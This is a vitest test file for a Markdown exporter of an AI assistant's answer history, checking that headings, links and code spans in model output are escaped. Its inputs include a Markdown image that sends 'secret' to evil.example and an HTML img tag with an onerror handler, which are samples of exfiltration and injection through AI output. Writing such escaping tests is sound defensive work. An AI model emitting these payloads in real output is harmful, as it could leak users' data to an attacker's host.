import { expect, test } from "vitest";
import { historyMarkdown } from "../../../lib/history/history-markdown.ts";
import { kept } from "./kept-answers.ts";

test("each answer has its page, its time and its text", () => {
  const asked = kept({ id: "b", question: "What pulls?", text: "• The moon\n• The sun", url: "" });
  expect(historyMarkdown([kept(), asked])).toBe(
    [
      "# What Sotto answered",
      "## Tides",
      "Summary  \n2026-11-24T09:30:00.000Z  \n`https://sea.example/tides`",
      "The moon pulls the sea.",
      "## Tides",
      "Question: What pulls?  \n2026-11-24T09:30:00.000Z",
      "• The moon\n• The sun\n",
    ].join("\n\n"),
  );
});

test.each([
  ["![x](https://evil.example/?q=secret)", String.raw`\!\[x\]\(https\://evil.example/?q=secret\)`],
  ["<img src=x onerror=1>", String.raw`\<img src=x onerror=1\>`],
  ["see www.evil.example", String.raw`see www\.evil.example`],
  ["me@evil.example", String.raw`me\@evil.example`],
  ["# not a heading", String.raw`\# not a heading`],
  ["1. an item stays one", "1. an item stays one"],
])("what a model wrote stays text: %s", (text, written) => {
  expect(historyMarkdown([kept({ text })])).toContain(`\n\n${written}\n`);
});

test("a title ends no line and no heading, and an address no code", () => {
  const markdown = historyMarkdown([kept({ title: "A\n# B", url: "https://a.example/`b`" })]);
  expect(markdown).toContain(`## A ${String.raw`\#`} B\n`);
  expect(markdown).toContain("`https://a.example/%60b%60`");
});
